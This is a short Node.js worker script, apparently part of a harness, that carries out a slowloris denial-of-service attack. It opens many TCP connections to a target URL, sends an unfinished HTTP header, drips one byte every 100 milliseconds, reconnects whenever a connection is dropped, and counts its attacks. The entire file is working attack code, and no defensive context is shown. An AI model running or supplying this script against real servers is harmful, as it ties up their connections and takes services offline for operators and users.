// So many clients at any time that send a head a byte at a time, and come again when they are thrown out (slow loris).
import { connect } from "node:net";
import { parentPort, workerData } from "node:worker_threads";

const { hostname, port } = new URL(workerData.url);
let attacks = 0;

function attack() {
  const socket = connect(Number(port), hostname, () => {
    attacks += 1;
    parentPort.postMessage(attacks);
    socket.write("GET / HTTP/1.1\r\nX-Slow: ");
  });
  const drip = setInterval(() => socket.write("a"), 100);
  socket.on("error", () => undefined);
  socket.resume();
  socket.once("close", () => {
    clearInterval(drip);
    setTimeout(attack, 200);
  });
}

for (let client = 0; client < workerData.clients; client++) attack();
